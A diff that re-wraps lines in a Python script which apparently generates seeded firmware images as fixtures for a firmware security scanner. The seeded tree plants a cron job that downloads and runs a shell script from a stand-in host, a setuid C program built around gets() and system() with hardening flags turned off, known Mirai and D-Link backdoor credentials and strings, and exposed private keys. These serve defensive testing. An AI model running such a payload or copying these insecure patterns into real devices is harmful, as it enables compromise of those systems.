@@ -47,21 +47,28 @@ PLANTED = {
     "POL-001": "/etc/forbidden",
 }
 STRONG = ["-O2", "-fPIE", "-pie", "-fstack-protector-all", "-D_FORTIFY_SOURCE=2", "-fcf-protection=full",
-          "-fstack-clash-protection", "-Wl,-z,relro,-z,now,-z,noexecstack", "-Wl,-z,ibt,-z,shstk", "-Wl,--build-id", "-s"]
-WEAK = ["-O0", "-g", "-no-pie", "-fno-pie", "-fno-stack-protector", "-U_FORTIFY_SOURCE", "-fcf-protection=none",
-        "-Wl,-z,norelro,-z,execstack,-z,lazy", "-Wl,--build-id=none", "-Wl,-rpath,/tmp/lib", "-rdynamic", "-w"]
-GOOD = "#include <stdio.h>\n#include <string.h>\nint main(int n, char **v){char b[64];strcpy(b,v[n-1]);return puts(b);}\n"
+          "-fstack-clash-protection", "-Wl,-z,relro,-z,now,-z,noexecstack", "-Wl,-z,ibt,-z,shstk",
+              "-Wl,--build-id", "-s"]
+WEAK = ["-O0", "-g", "-no-pie", "-fno-pie", "-fno-stack-protector", "-U_FORTIFY_SOURCE",
+    "-fcf-protection=none",
+        "-Wl,-z,norelro,-z,execstack,-z,lazy", "-Wl,--build-id=none", "-Wl,-rpath,/tmp/lib", "-rdynamic",
+            "-w"]
+GOOD = "#include <stdio.h>\n#include <string.h>\n" \
+       "int main(int n, char **v){char b[64];strcpy(b,v[n-1]);return puts(b);}\n"
 BAD = ("#include <stdio.h>\n#include <stdlib.h>\nextern char *gets(char *);\n"
        "int main(void){char b[64];gets(b);return system(b);}\n")
-LOGIN = ("#include <stdio.h>\n#include <string.h>\n#include <unistd.h>\nextern char *crypt(const char *, const char *);\n"
+LOGIN = ("#include <stdio.h>\n#include <string.h>\n#include <unistd.h>\n"
+    "extern char *crypt(const char *, const char *);\n"
          "int main(int n, char **v){const char *p=\"xc3511\";"
          "return strcmp(v[n-1],p)==0||strcmp(crypt(v[n-1],\"ab\"),\"x\")==0;}\n")
 HTTPD = ("#include <stdio.h>\nint main(void){puts(\"xmlset_roodkcableoj28840ybtide\");"
          "puts(\"http://203.0.114.77/cmd\");return 0;}\n")
 BOT = "#include <stdio.h>\nint main(void){puts(\"/bin/busybox MIRAI\");puts(\"dvrHelper\");return 0;}\n"
-HARD = ["STRICT_KERNEL_RWX", "STRICT_MODULE_RWX", "STACKPROTECTOR_STRONG", "RANDOMIZE_BASE", "HARDENED_USERCOPY",
+HARD = ["STRICT_KERNEL_RWX", "STRICT_MODULE_RWX", "STACKPROTECTOR_STRONG", "RANDOMIZE_BASE",
+    "HARDENED_USERCOPY",
         "FORTIFY_SOURCE", "SLAB_FREELIST_RANDOM", "SLAB_FREELIST_HARDENED", "VMAP_STACK", "SECCOMP_FILTER",
-        "STRICT_DEVMEM", "SECURITY_DMESG_RESTRICT", "INIT_ON_ALLOC_DEFAULT_ON", "MODULE_SIG", "MODULE_SIG_FORCE"]
+        "STRICT_DEVMEM", "SECURITY_DMESG_RESTRICT", "INIT_ON_ALLOC_DEFAULT_ON", "MODULE_SIG",
+            "MODULE_SIG_FORCE"]
 SOFT = ["PROC_KCORE", "DEBUG_FS", "KGDB", "MAGIC_SYSRQ", "LEGACY_TIOCSTI", "KEXEC"]
 POLICY = """[allow]
 services = ["S50app", "app", "good", "rcS", "getty"]
@@ -105,10 +112,12 @@ def dpkg(tree, tool):
     status = ("Package: tool\nStatus: install ok installed\nArchitecture: all\nVersion: 1.0-1\n"
               "Maintainer: Good People <good@example.com>\nHomepage: https://example.com/tool\n\n")
     if tree == "seeded":
-        status += ("Package: curl\nStatus: install ok installed\nArchitecture: armhf\nVersion: 7.88.1-10+deb12u1\n"
+        status += ("Package: curl\nStatus: install ok installed\nArchitecture: armhf\n"
+            "Version: 7.88.1-10+deb12u1\n"
                    "Maintainer: Good People <good@example.com>\n\n")
     return {"/var/lib/dpkg/status": (status, 0o644, 0),
-            "/var/lib/dpkg/info/tool.list": ("/.\n/usr\n/usr/bin\n/usr/bin/tool\n/etc\n/etc/init.d\n/etc/init.d/rcS\n", 0o644, 0),
+            "/var/lib/dpkg/info/tool.list": ("/.\n/usr\n/usr/bin\n/usr/bin/tool\n/etc\n/etc/init.d\n"
+                "/etc/init.d/rcS\n", 0o644, 0),
             "/var/lib/dpkg/info/tool.md5sums": (f"{hashlib.md5(tool).hexdigest()}  usr/bin/tool\n", 0o644, 0),
             "/etc/os-release": ('ID=debian\nVERSION_ID="12"\nVERSION_CODENAME=bookworm\n', 0o644, 0)}
 
@@ -121,9 +130,11 @@ def clean(work):
         "/etc/inittab": ("::sysinit:/etc/init.d/rcS\n", 0o644, 0),
         "/etc/init.d/rcS": ("#!/bin/sh\nexit 0\n", 0o755, 0),
         "/boot/config-5.10.0": (kconfig(True), 0o644, 0),
-        "/etc/rauc/system.conf": ("[system]\ncompatible=x\nbootloader=uboot\nmin-bundle-version=3\n[keyring]\npath=/etc/rauc/ca.pem\n",
+        "/etc/rauc/system.conf": ("[system]\ncompatible=x\nbootloader=uboot\nmin-bundle-version=3\n"
+            "[keyring]\npath=/etc/rauc/ca.pem\n",
                                   0o644, 0),
-        "/usr/share/doc/tool/copyright": ("Format: https://www.debian.org/doc/packaging-manuals/copyright-format/1.0/"
+        "/usr/share/doc/tool/copyright": (
+            "Format: https://www.debian.org/doc/packaging-manuals/copyright-format/1.0/"
                                           "\n\nFiles: *\nCopyright: Good People\nLicense: MIT\n", 0o644, 0),
         "/usr/bin/tool": (good, 0o755, 0),
     }
@@ -144,9 +155,11 @@ def seeded(work):
         "/etc/shadow": (f"root:{hashed('-1', 'xc3511')}:19000:0:99999:7:::\nadmin::19000:0:99999:7:::\n"
                         f"svc:{hashed('-6', 'Kx82-unlisted-phrase')}:19000:0:99999:7:::\n", 0o600, 0),
         AUTHORIZED: (ssh.public_key().public_bytes(
-            serialization.Encoding.OpenSSH, serialization.PublicFormat.OpenSSH) + b" factory@maker\n", 0o600, 0),
+            serialization.Encoding.OpenSSH, serialization.PublicFormat.OpenSSH) + b" factory@maker\n",
+                0o600, 0),
         "/etc/wpa_supplicant.conf": ('network={\n\tssid="x"\n\tpsk="factory-secret-1"\n}\n', 0o644, 0),
-        "/etc/ssl/private/server.key": (server.private_bytes(pem, serialization.PrivateFormat.PKCS8, raw), 0o600, 0),
+        "/etc/ssl/private/server.key": (server.private_bytes(pem, serialization.PrivateFormat.PKCS8, raw),
+            0o600, 0),
         "/etc/ssh/ssh_host_ed25519_key": (ssh.private_bytes(pem, serialization.PrivateFormat.OpenSSH, raw),
                                           0o600, 0),
         "/etc/ssl/old.crt": (certificate(), 0o644, 0),
@@ -155,7 +168,8 @@ def seeded(work):
                          "ttyS0::respawn:/bin/sh\n", 0o644, 0),
         "/etc/miniupnpd/miniupnpd.conf": ("ext_ifname=eth0\nsecure_mode=no\n", 0o644, 0),
         "/etc/mosquitto/mosquitto.conf": ("listener 1883 0.0.0.0\n", 0o644, 0),
-        "/etc/crontabs/root": ("*/5 * * * * wget -O /tmp/x http://198.51.100.7/x.sh && sh /tmp/x\n", 0o644, 0),
+        "/etc/crontabs/root": ("*/5 * * * * wget -O /tmp/x http://198.51.100.7/x.sh && sh /tmp/x\n", 0o644,
+            0),
         "/usr/bin/gdb": (program(work, GOOD, STRONG), 0o755, 0),
         "/boot/config-5.10.0": (kconfig(False), 0o644, 0),
         "/usr/sbin/weak": (program(work, BAD, WEAK), 0o4755, 0),
@@ -208,7 +222,8 @@ def fit(work, data, out):
     (work / "x.its").write_text(
         '/dts-v1/;\n/ { description = "x"; #address-cells = <1>; images { ramdisk-1 { description = "r"; '
         'data = /incbin/("rd.tar"); type = "ramdisk"; arch = "arm"; os = "linux"; compression = "none"; '
-        'hash-1 { algo = "sha256"; }; }; }; configurations { default = "c"; c { ramdisk = "ramdisk-1"; }; }; };\n')
+        'hash-1 { algo = "sha256"; }; }; }; configurations { default = "c"; c { ramdisk = "ramdisk-1"; '
+            '}; }; };\n')
     subprocess.run(["mkimage", "-f", "x.its", out], cwd=work, check=True, capture_output=True)
 
 
@@ -218,7 +233,8 @@ def pack(name, data, to, work):
     if shutil.which("sqfstar"):
         for codec in ("gzip", "xz", "zstd", "lz4", "lzo", "lzma"):
             image = to / f"{name}.{codec}.squashfs"
-            done = subprocess.run(["sqfstar", "-comp", codec, "-root-mode", "0755", str(image)], input=data, capture_output=True,
+            done = subprocess.run(["sqfstar", "-comp", codec, "-root-mode", "0755", str(image)],
+                input=data, capture_output=True,
                                   check=False)
             if done.returncode != 0:
                 image.unlink(missing_ok=True)
@@ -233,7 +249,8 @@ def pack(name, data, to, work):
         subprocess.run(["mke2fs", "-q", "-F", "-t", "ext4", "-d", str(folder), str(image), "24M"], check=True,
                        capture_output=True)
     if shutil.which("mkfs.jffs2"):
-        subprocess.run(["mkfs.jffs2", "-l", "-e", "64KiB", "-r", str(folder), "-o", str(to / f"{name}.jffs2")],
+        subprocess.run(["mkfs.jffs2", "-l", "-e", "64KiB", "-r", str(folder), "-o",
+            str(to / f"{name}.jffs2")],
                        check=True, capture_output=True)
 
 
@@ -247,7 +264,8 @@ def write_feed(to, today):
         "affected": [{"package": {"ecosystem": "Debian:12", "name": "curl"}, "ranges": [
             {"type": "ECOSYSTEM", "events": [{"introduced": "0"}, {"fixed": "7.88.1-10+deb12u99"}]}]}]}))
     (to / "kev.json").write_text(json.dumps({
-        "title": "CISA Catalog of Known Exploited Vulnerabilities", "catalogVersion": today, "dateReleased": stamp,
+        "title": "CISA Catalog of Known Exploited Vulnerabilities", "catalogVersion": today,
+            "dateReleased": stamp,
         "count": 1, "vulnerabilities": [{
             "cveID": "CVE-2026-10001", "vendorProject": "x", "product": "curl", "vulnerabilityName": "x",
             "dateAdded": today, "shortDescription": "x", "requiredAction": "x", "dueDate": today,
